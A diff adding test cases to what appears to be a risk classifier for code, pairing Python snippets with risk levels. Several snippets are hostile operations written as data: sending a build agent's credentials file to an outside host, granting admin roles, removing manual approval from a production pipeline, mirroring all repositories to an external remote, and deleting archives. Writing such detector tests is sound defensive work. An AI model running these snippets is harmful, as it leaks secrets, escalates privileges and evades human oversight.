@@ -17680,6 +17680,69 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'c.execute("INSERT INTO address (grp, ip_addr, mask, port) VALUES (1, \'192.0.2.10\', 32, 5060)")\n',
             S,
         ),
+        # round 106 (holdout760-767): CI servers, agent tokens, aged temp folders, Git server admins and mirrors
+        (
+            'import requests\n'
+            'requests.put("https://teamcity.example.com/app/rest/users/username:bob/roles/SYSTEM_ADMIN/g")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'tc = "https://gate.spinnaker.example.com"\n'
+            'cfg = requests.get(f"{tc}/applications/a/pipelineConfigs/prod").json()\n'
+            'cfg["stages"] = [s for s in cfg["stages"] if s["type"] != "manualJudgment"]\n'
+            'requests.post(f"{tc}/pipelines", json=cfg)\n',
+            H,
+        ),
+        (
+            'import pathlib, requests\n'
+            'requests.post("https://x.example.net/in", data=pathlib.Path("/opt/buildAgent/conf/buildAgent.pro'
+            'perties").read_text())\n',
+            C,
+        ),
+        (
+            'import yaml, pathlib\n'
+            'rc = yaml.safe_load((pathlib.Path.home() / ".flyrc").read_text())\n'
+            'print(sorted(rc["targets"]))\n',
+            H,
+        ),
+        (
+            'import os, shutil, time\n'
+            'cut = time.time() - 7 * 86400\n'
+            'for e in os.scandir("/opt/buildAgent/temp/buildTmp"):\n'
+            '    if e.stat().st_mtime < cut:\n'
+            '        shutil.rmtree(e.path, ignore_errors=True)\n',
+            M,
+        ),
+        (
+            'import os, shutil, time\n'
+            'cut = time.time() - 7 * 86400\n'
+            'for e in os.scandir("/mnt/archive/projects"):\n'
+            '    if e.stat().st_mtime < cut:\n'
+            '        shutil.rmtree(e.path, ignore_errors=True)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["gitea", "admin", "user", "create", "--username", "x", "--password", "Winter2025'
+            '!",\n'
+            '                "--email", "x@example.com", "--admin"])\n',
+            H,
+        ),
+        (
+            'import subprocess, os\n'
+            'subprocess.run(["gitea", "admin", "user", "create", "--username", "x", "--password", os.environ['
+            '"PW"],\n'
+            '                "--email", "x@example.com", "--admin"])\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for r in requests.get("https://git.example.com/api/v1/repos/search").json()["data"]:\n'
+            '    requests.post(f"https://git.example.com/api/v1/repos/{r[\'full_name\']}/push_mirrors", json={"'
+            'remote_address": "https://mirror.example.net/x.git"})\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
